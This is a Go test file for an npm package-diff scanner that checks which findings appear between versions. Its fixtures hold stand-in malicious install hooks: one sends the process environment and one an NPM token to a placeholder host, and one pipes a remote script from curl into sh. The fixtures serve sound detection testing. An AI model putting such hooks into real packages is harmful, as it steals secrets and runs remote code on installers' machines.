package scan

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/donapi/donapi/internal/detect/diff"
	"github.com/donapi/donapi/knowledge"
)

// plain is the old version in every comparison: a package that does nothing to anyone.
var plain = map[string]string{
	"package.json": `{"name":"demo","version":"1.0.0","main":"index.js","dependencies":{"ms":"^2.0.0"}}`,
	"index.js":     "const ms = require('ms');\nmodule.exports = (text) => ms(text) + 1;\n",
}

func with(manifest string, files map[string]string) map[string]string {
	out := map[string]string{"index.js": plain["index.js"], "package.json": manifest}
	for p, text := range files {
		out[p] = text
	}
	return out
}

func folder(t *testing.T, files map[string]string) Subject {
	t.Helper()
	dir := t.TempDir()
	for p, text := range files {
		p = filepath.Join(dir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return Subject{Target: "demo", Folder: dir}
}

func comparer(t *testing.T) *Scanner {
	t.Helper()
	k, err := LoadKnowledge(knowledge.FS())
	if err != nil {
		t.Fatal(err)
	}
	return New(k, InProcess{K: k, Profile: true})
}

func TestCompare(t *testing.T) {
	const manifest = `{"name":"demo","version":"1.0.1","main":"index.js","dependencies":{"ms":"^2.0.0"}}`
	script := func(name, command string) string {
		return strings.Replace(manifest, `"main"`, `"scripts":{"`+name+`":"`+command+`"},"main"`, 1)
	}
	tests := []struct {
		name string
		new  map[string]string
		want []string // IDs of findings
	}{
		{"nothing but the version", with(manifest, nil), nil},
		{"a new function", with(manifest, map[string]string{"index.js": plain["index.js"] + "module.exports.twice = (x) => x * 2;\n"}), nil},
		{"a hook that only prints", with(script("postinstall", "node hello.js"), map[string]string{"hello.js": "console.log('thank you');\n"}), []string{"diff/hook-added"}},
		{"a hook that sends the environment", with(script("postinstall", "node setup.js"), map[string]string{"setup.js": "const r = require('https').request({ host: 'collector.invalid', method: 'POST' });\nr.end(JSON.stringify(process.env));\n"}),
			[]string{"diff/hook-and-sinks", "diff/secret-flow", "diff/behavior-added"}},
		{"a hook without a file", with(script("preinstall", "curl -s https://files.invalid/x.sh | sh"), nil), []string{"diff/hook-and-sinks", "diff/remote-code", "diff/behavior-added"}},
		{"the same at import", with(manifest, map[string]string{"index.js": plain["index.js"] + "require('https').request({ host: 'collector.invalid', method: 'POST' }).end(process.env.NPM_TOKEN);\n"}),
			[]string{"diff/secret-flow", "diff/behavior-added"}},
		{"a dependency that is only there", with(strings.Replace(manifest, `"ms"`, `"plain-helper-js":"^4.2.0","ms"`, 1), nil), []string{"diff/unused-dependency"}},
		{"a dependency that is used", with(strings.Replace(manifest, `"ms"`, `"plain-helper-js":"^4.2.0","ms"`, 1), map[string]string{"index.js": "require('plain-helper-js');\n" + plain["index.js"]}), []string{"diff/dependency-added"}},
		{"a dependency from a server", with(strings.Replace(manifest, `"ms"`, `"x":"https://files.example/x.tgz","ms"`, 1), nil), []string{"diff/indirect-dependency"}},
	}
	s := comparer(t)
	old := folder(t, plain)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d, err := s.Compare(t.Context(), old, folder(t, tt.new))
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, f := range d.Findings {
				got = append(got, f.ID)
			}
			slices.Sort(tt.want)
			slices.Sort(got)
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("findings (-want +got):\n%s", diff)
			}
		})
	}
}

// TestCompareSame: a version beside itself has no difference, and a comparison prints the same bytes every time.
func TestCompareSame(t *testing.T) {
	s := comparer(t)
	one := folder(t, with(`{"name":"demo","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node setup.js"}}`, map[string]string{"setup.js": "require('child_process').execSync('node-gyp rebuild');\n"}))
	print := func(old, new Subject) string {
		d, err := s.Compare(t.Context(), old, new)
		if err != nil {
			t.Fatal(err)
		}
		b, err := json.Marshal(d)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	var d diff.Diff
	if err := json.Unmarshal([]byte(print(one, one)), &d); err != nil {
		t.Fatal(err)
	}
	if len(d.Findings)+len(d.Hooks.Added)+len(d.Hooks.Removed)+len(d.Sinks.Added)+len(d.Sinks.Removed)+len(d.Sequences.Added)+len(d.Files.Changed) > 0 {
		t.Errorf("a version differs from itself: %+v", d)
	}
	old := folder(t, plain)
	if a, b := print(old, one), print(old, one); a != b {
		t.Errorf("two comparisons of the same versions differ:\n%s", cmp.Diff(a, b))
	}
}
